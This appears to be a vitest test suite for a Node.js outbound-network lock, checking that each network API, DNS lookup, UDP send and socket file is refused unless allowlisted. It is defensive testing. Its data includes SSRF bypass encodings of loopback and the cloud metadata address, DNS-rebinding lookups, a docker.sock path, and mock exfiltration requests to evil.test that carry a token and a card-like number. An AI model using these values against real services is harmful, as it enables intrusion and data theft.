import dgram from "node:dgram";
import dns, { lookup } from "node:dns";
import { once } from "node:events";
import http, { createServer, type Server } from "node:http";
import http2 from "node:http2";
import https from "node:https";
import net, { type AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import tls from "node:tls";
import { Agent, fetch as undiciFetch, getGlobalDispatcher, request } from "undici";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { guardedLookup, issueEgressPass } from "./egress-pass.server";
import { EgressRefusedError } from "./egress-refused-error";
import { exactHost, type EgressRule } from "./egress-rule";
import { lockEgress, openEgress } from "./lock-egress.server";

const LISTED_FILE = join(tmpdir(), `inhouse-egress-${process.pid}.sock`);
/** What the name `rebind.test` leads to; changed by tests. */
let answers: string[] = [];
const refusals: EgressRefusedError[] = [];
/** Requests that arrived at the server that nobody may reach. */
let arrived = 0;
let listed: number;
let unlisted: number;
const servers: (Server | net.Server)[] = [];

/** Stands for a name server that answers anew each time. */
const rebinding: net.LookupFunction = (_name, options, callback) => {
  const address = answers.shift() ?? "127.0.0.1";
  const family = net.isIP(address);
  if (options.all) callback(null, [{ address, family }]);
  else callback(null, address, family);
};

const loopbackOnly = (address: string) => address === "127.0.0.1" || address === "::1";
const rule = (host: string, port: number): EgressRule => ({
  name: "test",
  isHost: exactHost(host),
  port,
  isAddress: loopbackOnly,
});

beforeAll(async () => {
  unlisted = await listen(createServer((_request, response) => void response.end("reached")));
  listed = await listen(
    createServer((request, response) => {
      if (request.url === "/away") response.writeHead(302, { location: `http://127.0.0.1:${unlisted}/` }).end();
      else response.end("reached");
    }),
  );
  const file = createServer((_request, response) => void response.end("reached")).listen(LISTED_FILE);
  servers.push(file);
  await once(file, "listening");
  lockEgress();
  lockEgress();
  openEgress({
    rules: [rule("localhost", listed), rule("127.0.0.1", listed), rule("rebind.test", listed)],
    socketFiles: [{ name: "test", path: LISTED_FILE }],
    onRefusal: (error) => refusals.push(error),
  });
});
beforeEach(() => {
  refusals.length = 0;
  arrived = 0;
});
afterAll(() => {
  for (const server of servers) server.close();
});

async function listen(server: Server): Promise<number> {
  server.on("connection", () => (arrived += 1)).listen(0, "127.0.0.1");
  servers.push(server);
  await once(server, "listening");
  // A server that listens on a port has an address of this form (nodejs.org, "server.address()").
  return (server.address() as AddressInfo).port;
}

/** Ends with what a socket or request comes to. */
const outcome = (emitter: NodeJS.EventEmitter, success: string) =>
  new Promise<string>((resolve, reject) => emitter.once(success, () => resolve("reached")).once("error", reject));

/** Every way out of a Node process that this one knows, to a host and port. */
const WAYS: Record<string, (host: string, port: number) => Promise<unknown>> = {
  fetch: async (host, port) => (await fetch(`http://${host}:${port}/`)).text(),
  "fetch over TLS": async (host, port) => (await fetch(`https://${host}:${port}/`)).text(),
  "undici's fetch": async (host, port) => (await undiciFetch(`http://${host}:${port}/`)).text(),
  "undici's request": async (host, port) => (await request(`http://${host}:${port}/`)).body.text(),
  "undici's global dispatcher": async (host, port) =>
    (await request(`http://${host}:${port}/`, { dispatcher: getGlobalDispatcher() })).body.text(),
  "an agent of one's own": async (host, port) =>
    (await request(`http://${host}:${port}/`, { dispatcher: new Agent() })).body.text(),
  "http.request": (host, port) => outcome(http.get({ host, port }), "response"),
  "http.get of an address": (host, port) => outcome(http.get(`http://${host}:${port}/`), "response"),
  "https.request": (host, port) => outcome(https.get({ host, port }), "response"),
  "http2.connect": (host, port) => outcome(http2.connect(`http://${host}:${port}`), "connect"),
  "net.connect(options)": (host, port) => outcome(net.connect({ host, port }), "connect"),
  "net.connect(port, host)": (host, port) => outcome(net.connect(port, host), "connect"),
  "net.connect with its own look-up": (host, port) =>
    outcome(net.connect({ host: "localhost.test", port, lookup: (_n, _o, done) => done(null, host, 4) }), "connect"),
  "socket.connect": (host, port) => outcome(new net.Socket().connect({ host, port }), "connect"),
  "socket.connect taken off the prototype": (host, port) =>
    outcome(Reflect.apply(net.Socket.prototype.connect, new net.Socket(), [port, host]) as net.Socket, "connect"),
  "tls.connect": (host, port) => outcome(tls.connect({ host, port }), "secureConnect"),
  WebSocket: (host, port) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`ws://${host}:${port}/`);
      socket.onopen = resolve;
      socket.onerror = () => reject(new Error("WebSocket failed"));
    }),
};
const PLAIN = Object.entries(WAYS).filter(([name]) => !/TLS|https|tls|own look-up|WebSocket|http2/.test(name));

describe("the lock", () => {
  it.each(Object.entries(WAYS))("refuses %s to an address that is not listed", async (_name, go) => {
    await expect(go("127.0.0.1", unlisted)).rejects.toThrow();
    expect(refusals).toHaveLength(1);
    expect(refusals[0]).toMatchObject({ code: "ERR_EGRESS_REFUSED", api: "tcp" });
    expect(arrived).toBe(0);
  });

  it.each(PLAIN)("lets %s through to a listed one", async (_name, go) => {
    expect(await go("127.0.0.1", listed)).toBe("reached");
    expect(refusals).toEqual([]);
  });

  it.each(["localhost", "LOCALHOST", "localhost.", undefined])("knows the host %s by its name", async (host) => {
    expect(await outcome(net.connect({ ...(host !== undefined && { host }), port: listed }), "connect")).toBe(
      "reached",
    );
  });

  it.each([
    "2130706433",
    "0x7f000001",
    "0177.0.0.1",
    "127.1",
    "127.0.0.2",
    "::ffff:127.0.0.1",
    "[::ffff:127.0.0.1]",
    "::ffff:7f00:1",
    "0.0.0.0",
    "::",
    "169.254.169.254",
    "0xa9fea9fe",
    "2852039166",
    "localhost.evil.test",
    "evil.test",
    "",
  ])("refuses the host %j at the port of another", async (host) => {
    const target = host === "" ? { port: unlisted } : { host, port: listed };
    await expect(outcome(net.connect(target), "connect")).rejects.toBeInstanceOf(EgressRefusedError);
    expect(arrived).toBe(0);
  });

  it("gives the cause to whoever fetches, and does not follow a redirect away", async () => {
    const refused = { cause: { name: "EgressRefusedError" } };
    await expect(fetch(`http://127.0.0.1:${unlisted}/`)).rejects.toMatchObject(refused);
    await expect(fetch(`http://127.0.0.1:${listed}/away`)).rejects.toMatchObject(refused);
    expect(refusals).toHaveLength(2);
  });

  it.each(["169.254.169.254", "10.0.0.1", "::ffff:169.254.169.254", "127.0.0.2"])(
    "refuses a listed name that leads to 127.0.0.1 first and to %s then",
    async (second) => {
      answers = ["127.0.0.1", second];
      const options = { host: "rebind.test", port: listed, lookup: rebinding };
      expect(await outcome(net.connect(options), "connect")).toBe("reached");
      await expect(outcome(net.connect(options), "connect")).rejects.toBeInstanceOf(EgressRefusedError);
      expect(answers).toEqual([]);
    },
  );

  it("refuses a name as soon as one of its addresses is wrong", async () => {
    const both: net.LookupFunction = (_n, _o, done) =>
      done(null, [
        { address: "127.0.0.1", family: 4 },
        { address: "10.0.0.1", family: 4 },
      ]);
    const connecting = outcome(net.connect({ host: "rebind.test", port: listed, lookup: both }), "connect");
    await expect(connecting).rejects.toBeInstanceOf(EgressRefusedError);
  });

  it("reads options once, so that they cannot change between check and connect", async () => {
    let reads = 0;
    const shifty = {
      port: listed,
      get host() {
        return (reads += 1) > 1 ? "evil.test" : "127.0.0.1";
      },
    };
    const socket = new net.Socket();
    await outcome(socket.connect(shifty), "connect");
    expect(socket.remoteAddress).toBe("127.0.0.1");
  });

  it("knows one socket file", async () => {
    expect(await outcome(net.connect(LISTED_FILE), "connect")).toBe("reached");
    expect(await outcome(http.get({ socketPath: LISTED_FILE }), "response")).toBe("reached");
    for (const path of ["/var/run/docker.sock", `${LISTED_FILE}x`, "\0abstract"])
      await expect(outcome(net.connect({ path }), "connect")).rejects.toMatchObject({ api: "socket file" });
  });

  it("sends no datagram", () => {
    const socket = dgram.createSocket("udp4");
    const refused = expect.objectContaining({ code: "ERR_EGRESS_REFUSED", api: "udp" }) as unknown;
    expect(() => socket.send("x", 53, "127.0.0.1")).toThrow(refused);
    expect(() => socket.connect(53, "127.0.0.1")).toThrow(EgressRefusedError);
    expect(() => socket.addMembership("224.0.0.1")).toThrow(EgressRefusedError);
    socket.close();
  });

  it("asks a name server for listed names only", async () => {
    const refused = { code: "ERR_EGRESS_REFUSED", api: "name look-up" };
    await expect(dns.promises.lookup("secret.evil.test")).rejects.toMatchObject(refused);
    await expect(dns.promises.resolve4("rebind.test")).rejects.toMatchObject(refused);
    await expect(dns.promises.reverse("8.8.8.8")).rejects.toMatchObject(refused);
    await expect(new dns.promises.Resolver().resolveTxt("evil.test")).rejects.toMatchObject(refused);
    const called = (ask: (done: (error: unknown) => void) => unknown) => new Promise((resolve) => ask(resolve));
    expect(await called((done) => lookup("evil.test", done))).toMatchObject(refused);
    expect(await called((done) => dns.resolve("evil.test", done))).toMatchObject(refused);
    expect(await called((done) => new dns.Resolver().resolve4("evil.test", done))).toMatchObject(refused);
    expect((await dns.promises.lookup("localhost")).address).toMatch(/^(127\.0\.0\.1|::1)$/);
    expect((await dns.promises.lookup("127.0.0.1")).address).toBe("127.0.0.1");
  });

  it("says of a refused name its end only", async () => {
    await expect(fetch("http://jo.nightingale.4111111111111111.evil.test/secret?token=x")).rejects.toThrow();
    const [error] = refusals;
    expect(error?.message).toContain("*.evil.test:80");
    expect(error?.message).not.toMatch(/nightingale|4111|secret|token/);
  });

  it("cannot be taken off or opened wider", () => {
    expect(() => Object.assign(net.Socket.prototype, { connect: () => undefined })).toThrow(TypeError);
    expect(() => Object.assign(dns, { lookup: () => undefined })).toThrow(TypeError);
    expect(() => openEgress({ rules: [], socketFiles: [], onRefusal: () => undefined })).toThrow(/set already/);
  });
});

describe("a pass", () => {
  it("opens its own place to its holder only", async () => {
    const pass = issueEgressPass(rule("127.0.0.1", unlisted));
    expect(await outcome(net.connect({ host: "127.0.0.1", port: unlisted, ...pass }), "connect")).toBe("reached");
    const agent = new Agent({ connect: { timeout: 1_000, ...pass } });
    expect(await (await request(`http://127.0.0.1:${unlisted}/`, { dispatcher: agent })).body.text()).toBe("reached");
    await agent.close();
    await expect(fetch(`http://127.0.0.1:${unlisted}/`)).rejects.toThrow();
  });

  it("opens no other place, and cannot be forged", async () => {
    const pass = issueEgressPass(rule("127.0.0.1", unlisted));
    const elsewhere = net.connect({ host: "127.0.0.2", port: unlisted, ...pass });
    await expect(outcome(elsewhere, "connect")).rejects.toBeInstanceOf(EgressRefusedError);
    const forged = Object.fromEntries(Object.getOwnPropertySymbols(pass).map((key) => [key, {}]));
    const connecting = outcome(net.connect({ host: "127.0.0.1", port: listed, ...forged }), "connect");
    await expect(connecting).rejects.toBeInstanceOf(EgressRefusedError);
  });

  it("lets its name be looked up", async () => {
    const pass = issueEgressPass(rule("nowhere.invalid", 1));
    await expect(dns.promises.lookup("nowhere.invalid", { family: 0, ...pass })).rejects.toMatchObject({
      syscall: "getaddrinfo",
    });
    await expect(dns.promises.lookup("elsewhere.invalid", { family: 0, ...pass })).rejects.toBeInstanceOf(
      EgressRefusedError,
    );
  });

  it("judges every address that its name leads to", async () => {
    answers = ["169.254.169.254"];
    const guarded = guardedLookup(rule("rebind.test", 1), rebinding);
    const error = await new Promise((resolve) => guarded("rebind.test", {}, resolve));
    expect(error).toBeInstanceOf(EgressRefusedError);
  });
});
